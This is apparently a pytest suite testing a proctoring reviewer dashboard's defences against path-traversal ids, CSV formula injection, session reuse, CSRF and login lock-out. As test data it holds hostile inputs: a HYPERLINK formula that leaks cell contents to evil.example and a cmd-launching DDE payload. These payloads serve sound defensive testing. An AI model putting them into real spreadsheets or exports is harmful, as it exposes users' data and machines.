"""Attacks on the reviewer dashboard: client-chosen ids as paths, CSV formulas, huge page
numbers, sessions that outlive logout, unbound CSRF tokens, lock-outs by someone else."""

from __future__ import annotations

import csv
import io
import re
from html import escape
from urllib.parse import urlencode, urljoin

from sqlalchemy import select

from server.access.users import set_password
from server.store import ExamSession

from .conftest import PASSWORD, auth, csrf_of, flag, login, start

WEIRD_IDS = ["../candidates/victim-42", "a/b", "%2F..%2Fx", "ünïcødé ✓ 考生", "x" * 500, "a?b#c&d=e", ".."]


def session_page(client, sid):
    return client.get(f"/dashboard/sessions/{sid}").text


def test_a_candidate_id_with_a_path_cannot_delete_another_candidate(client, api_key, reviewer):
    victim = start(client, api_key, candidateId="victim-42").json()
    attacker = start(client, api_key, candidateId="../candidates/victim-42").json()
    login(client)
    page = session_page(client, attacker["sessionId"])
    action = re.search(r'<form method="post" action="([^"]*candidate[^"]*)"', page).group(1)
    # What a browser does with the form's action: resolve it against the page's URL.
    target = urljoin(f"http://eye.test/dashboard/sessions/{attacker['sessionId']}", action)
    r = client.post(target, data={"csrf": csrf_of(client, "/dashboard/")}, follow_redirects=False)
    assert r.status_code == 303
    with client.app.state.db.session() as s:
        left = {x.candidate_id for x in s.scalars(select(ExamSession))}
    assert left == {"victim-42"}  # only the attacker's own rows went
    assert session_page(client, victim["sessionId"]).count("victim-42") >= 1


def test_any_id_can_be_viewed_exported_and_deleted(client, api_key, reviewer):
    created = {cid: start(client, api_key, candidateId=cid, assessmentId=cid).json() for cid in WEIRD_IDS}
    login(client)
    listing = client.get("/dashboard/").text
    for cid, c in created.items():
        page = session_page(client, c["sessionId"])
        assert "Delete everything about candidate" in page
        export = client.get(f"/dashboard/sessions/{c['sessionId']}/candidate/export.json")
        assert export.status_code == 200 and [s["candidateId"] for s in export.json()["sessions"]] == [cid]
        # the home page links to the assessment with its id as an encoded query value
        assert f'href="/dashboard/assessments/export.json?{escape(urlencode({"assessment": cid}))}"' in listing
    for cid, c in created.items():
        exported = client.get("/dashboard/assessments/export.json?" + urlencode({"assessment": cid}))
        assert exported.status_code == 200 and [s["assessmentId"] for s in exported.json()] == [cid]
        token = csrf_of(client, f"/dashboard/sessions/{c['sessionId']}")
        r = client.post(f"/dashboard/sessions/{c['sessionId']}/candidate/delete", data={"csrf": token}, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].endswith("deleted=1")
    with client.app.state.db.session() as s:
        assert s.scalars(select(ExamSession)).all() == []


def test_csv_exports_defuse_formulas(client, api_key, reviewer):
    c = start(client, api_key, candidateId='=HYPERLINK("http://evil.example/?x="&A1,"Click")').json()
    flag(client, c, description="+cmd|' /C calc'!A0")
    login(client)
    rows = list(csv.reader(io.StringIO(client.get(f"/dashboard/sessions/{c['sessionId']}/export.csv").text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'=HYPERLINK(" in "".join(cells) and "'+cmd" in "".join(cells)


def test_absurd_page_numbers_are_a_clear_400_not_a_500(client, reviewer):
    login(client)
    for page in ["99999999999999999999", "-1", "0", "abc", "1e9"]:
        r = client.get(f"/dashboard/sessions?page={page}")
        assert r.status_code == 400 and "page" in r.text, page
    assert client.get("/dashboard/sessions?page=500").status_code == 200  # past the end: an empty page


def test_logout_and_password_change_end_the_session_on_the_server(client, reviewer):
    login(client)
    stolen = client.cookies.get("eye_reviewer")
    client.post("/dashboard/logout", data={"csrf": csrf_of(client, "/dashboard/")})
    client.cookies.set("eye_reviewer", stolen, path="/dashboard")
    assert client.get("/dashboard/", follow_redirects=False).status_code == 303  # the old cookie is worthless
    client.cookies.clear()
    login(client)
    assert client.get("/dashboard/").status_code == 200
    with client.app.state.db.session() as s:
        set_password(s, "rev@test.edu", "a brand new password")
    assert client.get("/dashboard/", follow_redirects=False).status_code == 303


def test_csrf_tokens_are_bound_to_the_reviewer_session(app, reviewer):
    from fastapi.testclient import TestClient

    with TestClient(app, base_url="http://eye.test") as a, TestClient(app, base_url="http://eye.test") as b:
        login(a)
        login(b)
        token_a = csrf_of(a, "/dashboard/")
        assert token_a != csrf_of(b, "/dashboard/")
        r = b.post("/dashboard/settings", data={"retention_days": "5", "csrf": token_a}, follow_redirects=False)
        assert r.status_code == 403  # another session's token does not work here
        login_token = b.cookies.get("eye_csrf")
        assert b.post("/dashboard/settings", data={"retention_days": "5", "csrf": login_token},
                      follow_redirects=False).status_code == 403
        assert b.post("/dashboard/settings", data={"retention_days": "5", "csrf": csrf_of(b, "/dashboard/")},
                      follow_redirects=False).status_code == 303


def test_someone_elses_failures_do_not_lock_the_owner_out(make_app, reviewer):
    from fastapi.testclient import TestClient

    app = make_app(forwarded_allow_ips=("testclient",))  # behind a proxy that names the real clients
    from server.access.users import create_user

    with app.state.db.session() as s:
        create_user(s, "Test University", "owner@test.edu", PASSWORD)
    with TestClient(app, base_url="http://eye.test") as attacker, TestClient(app, base_url="http://eye.test") as owner:
        for i in range(12):
            r = login(attacker, "owner@test.edu", f"guess {i} wrong!", headers={"X-Forwarded-For": "203.0.113.9"})
            assert r.status_code in (401, 429)
        assert r.status_code == 429  # the attacker is throttled ...
        ok = login(owner, "owner@test.edu", PASSWORD, headers={"X-Forwarded-For": "198.51.100.20"})
        assert ok.status_code == 303  # ... the owner, elsewhere, signs in at once


def test_forged_forwarded_headers_are_ignored_without_a_trusted_proxy(client, reviewer):
    statuses = [login(client, "rev@test.edu", f"wrong password {i}", headers={"X-Forwarded-For": f"198.51.100.{i}"}).status_code
                for i in range(7)]
    assert statuses[5:] == [429, 429]  # a new fake address per try does not reset the throttle
    r = login(client, headers={"X-Forwarded-Proto": "https"})
    assert "secure" not in r.headers.get("set-cookie", "").lower()


def test_behind_a_trusted_proxy_cookies_are_secure(make_app, reviewer):
    from fastapi.testclient import TestClient

    app = make_app(forwarded_allow_ips=("testclient",))
    with TestClient(app, base_url="http://eye.test") as c:
        r = login(c, headers={"X-Forwarded-Proto": "https", "X-Forwarded-For": "198.51.100.7"})
        assert r.status_code == 303 and "secure" in r.headers["set-cookie"].lower()


def test_another_institutions_reviewer_cannot_touch_a_session(client, api_key, reviewer):
    from server.access.users import create_user

    with client.app.state.db.session() as s:
        create_user(s, "Other College", "other@other.edu", PASSWORD)
    c = start(client, api_key).json()
    flag(client, c)
    login(client, "other@other.edu")
    sid = c["sessionId"]
    for path in [f"/dashboard/sessions/{sid}", f"/dashboard/sessions/{sid}/candidate/export.json",
                 "/dashboard/assessments/export.json?assessment=exam-42"]:
        assert client.get(path).status_code == 404, path
    r = client.post(f"/dashboard/sessions/{sid}/candidate/delete", data={"csrf": csrf_of(client, "/dashboard/")})
    assert r.status_code == 404
    assert client.get(f"/api/v1/sessions/{sid}", headers=auth(c["token"])).status_code == 200  # still there
